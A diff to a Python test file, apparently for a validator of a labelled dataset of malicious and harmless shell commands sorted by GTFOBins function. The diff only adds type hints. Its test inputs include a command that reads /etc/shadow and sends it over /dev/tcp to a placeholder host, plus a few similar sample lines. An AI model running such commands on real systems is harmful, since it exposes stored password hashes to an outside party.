@@ -19,7 +19,7 @@ def only(samples, **options):
     return problem
 
 
-def test_clean_samples_have_no_problems():
+def test_clean_samples_have_no_problems() -> None:
     """Commands of every category and harmless ones pass, newline and tab included."""
     samples = [malicious(f"a\n\tb {each}", each, cluster="a") for each in CATEGORIES]
     assert problems([*samples, harmless(metadata={"source": "me"})], strict=True) == ()
@@ -45,7 +45,7 @@ def test_clean_samples_have_no_problems():
         (harmless(category="shell"), "category", "a harmless command has none; leave it empty"),
     ],
 )
-def test_errors(sample, field, message):
+def test_errors(sample, field: str, message) -> None:
     """Each broken rule is one error about the right field."""
     problem = only([sample])
     assert (problem.severity, problem.record, problem.field) == (Severity.ERROR, 1, field)
@@ -55,27 +55,27 @@ def test_errors(sample, field, message):
 @pytest.mark.parametrize(
     "category", ["sudo", "T1059.004", "privilege escalation", "Führung", "x" * 100, "a/b:c+d_e-f"]
 )
-def test_other_datasets_may_have_other_categories(category):
+def test_other_datasets_may_have_other_categories(category: str) -> None:
     """A name that is none of GTFOBins' functions passes without a word."""
     assert problems([malicious(category=category)], strict=True) == ()
 
 
 @pytest.mark.parametrize("category", ["File Read", "file_read", "fileread", "SHELL", "downlaod"])
-def test_a_misspelt_category_is_a_warning(category):
+def test_a_misspelt_category_is_a_warning(category: str) -> None:
     """What is nearly one of GTFOBins' functions is probably meant to be it."""
     problem = only([malicious(category=category)])
     assert (problem.severity, problem.field) == (Severity.WARNING, "category")
     assert problem.message.startswith(f"{category!a} is nearly '")
 
 
-def test_a_variable_that_the_command_sets_is_no_placeholder():
+def test_a_variable_that_the_command_sets_is_no_placeholder() -> None:
     """Only a variable without a value is left over."""
     assert problems([malicious("LFILE=/etc/shadow\ncat $LFILE")]) == ()
     problem = only([malicious("LFILE=/etc/shadow\ncat $LFILE >/dev/tcp/$RHOST/1")])
     assert problem.message == "placeholder '$RHOST' was never filled in"
 
 
-def test_longest_allowed_command():
+def test_longest_allowed_command() -> None:
     """A command of exactly the limit passes."""
     assert problems([harmless("x" * 10_000)]) == ()
 
@@ -92,7 +92,7 @@ def test_longest_allowed_command():
         ("ssh <user>@10.0.0.1", "<user>"),
     ],
 )
-def test_placeholders_are_warnings_and_strictly_errors(command, placeholder):
+def test_placeholders_are_warnings_and_strictly_errors(command: str, placeholder: str) -> None:
     """A placeholder left in a malicious command warns, and stops a bundled set."""
     problem = only([malicious(command)])
     assert problem.severity is Severity.WARNING
@@ -110,25 +110,25 @@ def test_placeholders_are_warnings_and_strictly_errors(command, placeholder):
         malicious("echo $TFA"),
     ],
 )
-def test_what_only_looks_like_a_placeholder(sample):
+def test_what_only_looks_like_a_placeholder(sample) -> None:
     """XML, shell variables, here documents and harmless commands are left alone."""
     assert problems([sample]) == ()
 
 
 @pytest.mark.parametrize("word", ["evil", "Backdoor", "malware", "payload", "exploit", "hack"])
-def test_tell_tale_words(word):
+def test_tell_tale_words(word: str) -> None:
     """A word that gives the label away warns."""
     problem = only([malicious(f"sh /tmp/my_{word}.sh")])
     assert problem.severity is Severity.WARNING
     assert problem.message == f"the word '{word}' gives the label away"
 
 
-def test_words_that_contain_a_tell_tale_word():
+def test_words_that_contain_a_tell_tale_word() -> None:
     """`devil` is not `evil`."""
     assert problems([malicious("devilspie --shackle")]) == ()
 
 
-def test_duplicate_names_both_lines():
+def test_duplicate_names_both_lines() -> None:
     """The same command twice is an error even under another label."""
     samples = [malicious("ls"), harmless("pwd"), harmless("ls")]
     problem = only(samples, lines=[2, 5, 9])
